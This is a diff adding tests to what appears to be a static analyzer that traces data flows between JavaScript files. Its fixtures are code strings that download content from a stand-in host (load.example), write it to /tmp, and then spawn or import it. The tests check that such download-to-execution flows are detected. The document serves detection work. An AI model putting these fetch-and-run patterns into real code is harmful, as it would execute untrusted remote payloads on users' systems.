@@ -348,4 +348,49 @@ describe('flows between files', () => {
     };
     expect(flowsOf(files)).toEqual([]);
   });
+
+  const save =
+    "import { writeFile } from 'node:fs/promises'; export async function save(address, place) { const answer = await fetch(address); await writeFile(place, Buffer.from(await answer.arrayBuffer())); }";
+  it.each([
+    [
+      'to the path that it is handed',
+      {
+        'index.js':
+          "import { spawn } from 'node:child_process'; import { save } from './save.js'; const place = '/tmp/helper'; await save('https://load.example/x', place); spawn(place, []);",
+        'save.js': save,
+      },
+      'file',
+    ],
+    [
+      'through a file that passes it on',
+      {
+        'index.js':
+          "import { save as keep } from './all.js'; const place = '/tmp/x.mjs'; await keep('https://load.example/x', place); await import(place);",
+        'all.js': "export * from './save.js';",
+        'save.js': save,
+      },
+      'module',
+    ],
+    [
+      'to a path that it returns',
+      {
+        'index.js':
+          "import { spawn } from 'node:child_process'; import { save } from './save.js'; const place = await save('https://load.example/x'); spawn(place, []);",
+        'save.js':
+          "import { writeFile } from 'node:fs/promises'; export async function save(address) { const place = '/tmp/helper'; const answer = await fetch(address); await writeFile(place, Buffer.from(await answer.arrayBuffer())); return place; }",
+      },
+      'file',
+    ],
+  ])('lead from what a function of another file downloads %s to where it runs', (_, files, to) => {
+    expect(flowsOf(files)).toContain(`download → process.program @ ${to}`);
+  });
+
+  it('are not told of a file that another function only looks at', () => {
+    const files = {
+      'index.js':
+        "import { spawn } from 'node:child_process'; import { save, check } from './save.js'; const data = '/tmp/data'; const tool = '/opt/acme/tool'; await save('https://load.example/x', data); check(tool); spawn(tool, [data]);",
+      'save.js': `${save} export function check(place) { return place.length; }`,
+    };
+    expect(flowsOf(files)).not.toContain('download → process.program @ file');
+  });
 });
